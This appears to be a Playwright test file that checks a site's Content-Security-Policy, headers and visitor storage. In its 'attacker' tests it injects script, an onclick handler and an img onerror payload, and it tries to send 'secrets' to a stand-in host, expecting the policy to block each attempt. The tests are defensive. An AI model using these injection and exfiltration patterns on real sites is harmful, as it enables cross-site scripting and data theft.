import type { Page } from '@playwright/test';
import { ESSAY, expect, PAGE_TYPES, readThrough, test as base } from './site.ts';

/** What a browser may keep of a visit: the answers a reader has seen, and whether keys are off. */
const KEPT = ['answers-seen', 'no-single-keys'];

/** A test that is told what the page's policy refused. */
const test = base.extend<{ refused: string[] }>({
  refused: async ({ page }, use) => {
    const refused: string[] = [];
    await page.exposeFunction('tellRefused', (what: string) => refused.push(what));
    await page.addInitScript(() => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
        (window as unknown as { tellRefused: (what: string) => void }).tellRefused(
          `${effectiveDirective} ${blockedURI} ${sample}`,
        );
      });
    });
    await use(refused);
  },
});

const policyOf = async (page: Page) =>
  (await page.locator('head > meta[http-equiv=content-security-policy]').getAttribute('content')) ?? '';

for (const [name, path] of Object.entries(PAGE_TYPES)) {
  test(`${name}: all that the page does is within its policy, and it keeps nothing of its visitor`, async ({
    page,
    refused,
  }) => {
    const response = await page.goto(path);
    await readThrough(page);
    expect(refused).toEqual([]);
    const policy = await policyOf(page);
    expect(policy).toContain("default-src 'none';script-src 'self' ");
    expect(policy).not.toMatch(/unsafe-(?:inline|eval)|\*|https?:|data:/);
    expect(await page.context().cookies()).toEqual([]);
    const kept = await page.evaluate(() => Object.keys({ ...localStorage, ...sessionStorage }));
    expect(kept.filter((key) => !KEPT.includes(key))).toEqual([]);
    expect(response?.headers()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'content-security-policy': name === 'embedded answer' ? 'frame-ancestors *' : "frame-ancestors 'none'",
    });
  });
}

test('figures, copying, the search and the filter work within the policy', async ({ page, refused }) => {
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.goto(ESSAY);
  await readThrough(page);
  const slider = page.getByRole('slider').first();
  await slider.focus();
  await page.keyboard.press('ArrowRight');
  await page.getByRole('navigation', { name: 'Site' }).getByRole('link', { name: 'Search' }).click();
  await page.getByRole('dialog', { name: 'Search' }).getByRole('searchbox').fill('mentors');
  await expect(page.locator('.search-results mark').first()).toBeVisible();
  await page.keyboard.press('Escape');
  await page.locator('[data-copy], [data-copy-from]').first().click();
  await page.goto('faq/');
  await page.getByRole('searchbox').first().fill('pay');
  await expect(page.getByRole('status').first()).not.toBeEmpty();
  expect(refused).toEqual([]);
});

test.describe('what an attacker would put into a page', () => {
  // The refusals are reported to the console, as they should be.
  const hostile = base.extend({
    page: async ({ context }, use) => use(await context.newPage()),
  });

  hostile('does not run, as a script, as a handler, or as text made HTML', async ({ page }) => {
    await page.goto(ESSAY);
    const result = await page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { ran });
      const script = document.createElement('script');
      const button = document.createElement('button');
      const thrown: string[] = [];
      const attempts: Record<string, () => void> = {
        script: () => {
          script.textContent = 'ran.push("script")';
          document.body.append(script);
        },
        handler: () => button.setAttribute('onclick', 'ran.push("handler")'),
        html: () => {
          document.body.innerHTML += '<img src="x" onerror="ran.push(1)">';
        },
        worker: () => void new Worker('/pagefind/pagefind.js'),
      };
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          attempt();
        } catch {
          thrown.push(name);
        }
      }
      button.click();
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { ran, thrown };
    });
    expect(result.ran).toEqual([]);
    expect(result.thrown).toEqual(expect.arrayContaining(['script', 'html', 'worker']));
  });

  hostile('cannot send anything to another host', async ({ page }) => {
    await page.goto(ESSAY);
    const sent = await page.evaluate(() =>
      fetch('https://elsewhere.example/').then(
        () => 'sent',
        (error: Error) => error.name,
      ),
    );
    expect(sent).toBe('TypeError');
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            resolve(effectiveDirective),
          );
          new Image().src = 'https://elsewhere.example/?all=secrets';
        }),
    );
    expect(refused).toBe('img-src');
  });
});
